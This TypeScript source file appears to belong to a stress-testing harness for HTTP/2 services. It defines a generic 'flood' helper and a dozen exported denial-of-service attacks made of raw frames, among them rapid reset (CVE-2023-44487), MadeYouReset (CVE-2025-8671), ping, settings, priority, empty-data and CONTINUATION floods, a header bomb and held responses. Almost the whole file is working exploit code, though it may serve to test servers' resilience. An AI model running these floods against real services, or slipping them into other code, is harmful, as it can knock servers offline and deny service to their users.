import { type Attack, openSession, pourStreams, repeat } from './caller.ts'
import {
  endHeaders,
  endStream,
  fields,
  frame,
  open,
  request,
  reset,
  settings,
  windowUpdate,
} from './frames.ts'

interface FloodOptions {
  /** What is counted. */
  what?: string
  /** Sent once, on stream 1. */
  first?: Buffer
  lanes?: number
  /** Streams of one write. */
  batch?: number
  /** Of the session: its initial window, and whether it reads responses. */
  session?: { window?: number; reads?: boolean }
}

/** A flood of the frames that `piece` makes for each stream, over sessions that are opened again. */
function flood(
  piece: (stream: number) => Buffer,
  { what = 'requests', first, lanes = 20, batch = 100, session = {} }: FloodOptions = {},
): Attack {
  return (caller) =>
    repeat(caller, lanes, 250, async () => {
      const socket = await openSession(caller, session)
      if (!socket) return
      if (first) socket.write(first)
      await pourStreams(caller, socket, what, batch, piece)
    })
}

const json = { 'content-type': 'application/json' }
const bare = request('POST', '/sync', json)
const whole = request('POST', '/sync', { ...json, 'content-length': '2' })
const unknown = request('GET', '/nothing')
const brew = request('BREW', '/sync')
const frames = 'frames'

/** Requests whose responses cannot be sent: a window of 0, or a connection that is never read. */
export function holdResponses(path: string, session: FloodOptions['session'] = {}): Attack {
  const block = request('GET', path)
  return flood((id) => open(id, block), { batch: 50, session })
}

/** Requests with a method that does not exist. */
export const unknownMethods = flood((id) => open(id, brew), { lanes: 4, batch: 20 })

/** CVE-2023-44487, rapid reset: resets each request at once. */
export const rapidReset = flood((id) => Buffer.concat([open(id, bare), reset(id)]))

/** Resets each request after its whole body, when the service works on it. */
export const resetAfterEnd = flood((id) => {
  const body = frame('data', endStream, id, Buffer.from('{}'))
  return Buffer.concat([open(id, whole, false), body, reset(id)])
})

/** CVE-2025-8671, MadeYouReset: a window too large for a stream makes the service reset it. */
export const madeYouReset = flood((id) => Buffer.concat([open(id, unknown), windowUpdate(id)]))

/** nghttp2 treats these as an error of the session. */
export const emptyWindowUpdates = flood((id) =>
  Buffer.concat([open(id, unknown), windowUpdate(id, 0)]),
)

/** CVE-2019-9512. */
export const pings = flood(() => frame('ping', 0, 0, Buffer.alloc(8)), { what: frames })
/** CVE-2019-9515. */
export const settingsFlood = flood(() => settings(), { what: frames })
/** CVE-2019-9513. */
export const priorities = flood((id) => frame('priority', 0, id, Buffer.alloc(5)), { what: frames })
/** CVE-2019-9518. */
export const emptyData = flood(() => frame('data', 0, 1), {
  what: frames,
  first: open(1, bare, false),
})
/** CVE-2024-27316 and CVE-2024-27983. */
export const continuation = flood(() => frame('continuation', 0, 1, fields({ a: 'b' })), {
  what: frames,
  first: frame('headers', 0, 1, unknown),
})
const indexed = Buffer.concat([unknown, Buffer.alloc(4_000, 0x90)])
/** Many header fields of one byte each, from the static table, which take much more memory. */
export const headerBomb = flood((id) => frame('headers', endHeaders + endStream, id, indexed))
